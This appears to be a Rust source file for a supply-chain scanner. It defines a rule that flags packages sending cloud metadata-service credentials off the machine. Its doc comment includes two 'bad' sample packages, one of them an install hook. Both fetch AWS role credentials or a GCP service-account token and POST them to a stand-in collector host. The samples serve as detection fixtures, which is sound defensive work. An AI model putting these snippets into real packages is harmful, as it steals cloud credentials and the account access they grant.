//! # Credentials of the cloud machine leave it
//!
//! What a cloud's metadata service answers to a request for credentials reaches another host.
//!
//! ## Why it matters
//!
//! The metadata service hands out the credentials of the machine to whoever asks from it. Sent away, they
//! open the account the machine works for.
//!
//! ## Known benign uses
//!
//! Cloud SDKs ask for credentials when they are called and sign requests with them. Monitoring agents ask
//! for the kind and region of the machine, which is no finding.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"install": "node setup.js"}}
//! == setup.js
//! const base = "http://169.254.169.254/latest/meta-data/iam/security-credentials/";
//! fetch(base + "role").then((reply) => reply.text()).then((text) =>
//!   fetch("https://collector.invalid/", { method: "POST", body: text })); //~ here
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.mjs"}
//! == index.mjs
//! import axios from "axios";
//! const headers = { "Metadata-Flavor": "Google" };
//! const address = "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token";
//! const { data } = await axios.get(address, { headers });
//! await axios.post("https://collector.invalid/t", data); //~ here
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const kind = fetch("http://169.254.169.254/latest/meta-data/instance-type").then((reply) => reply.text());
//! exports.send = async (line) => fetch("https://logs.x.example/", { method: "POST", body: line + (await kind) });
//! exports.credentials = () => fetch("http://169.254.169.254/latest/meta-data/iam/security-credentials/role");
//! ```
//!
//! ## References
//!
//! - Wiz: Shai-Hulud npm Supply Chain Attack (September 2025)

use crate::prelude::*;

/// Credentials of the cloud machine leave it.
pub struct MetadataServiceReplySent;

impl Rule for MetadataServiceReplySent {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "metadata-service-reply-sent",
            title: "Credentials of the cloud machine leave it",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1552.005",
            covers: &["collect-cloud-metadata"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let is_reply =
            |source: &Source| matches!(source, Source::Network(Some(host)) if gives_credentials(host));
        for flow in facts.flows(is_reply, Sink::leaves_machine).filter(|flow| flow.trigger.runs_unasked()) {
            found.flow(flow);
        }
    }
}

/// Whether a request to the metadata service asks for credentials. Source: the clouds' documentation.
fn gives_credentials(host: &Host) -> bool {
    const PATHS: [&str; 5] =
        ["security-credentials", "service-accounts", "identity/oauth2", "user-data", "credentials"];
    host.class() == HostClass::MetadataService
        && (host.name() == "169.254.170.2" || PATHS.iter().any(|path| host.path.contains(path)))
}
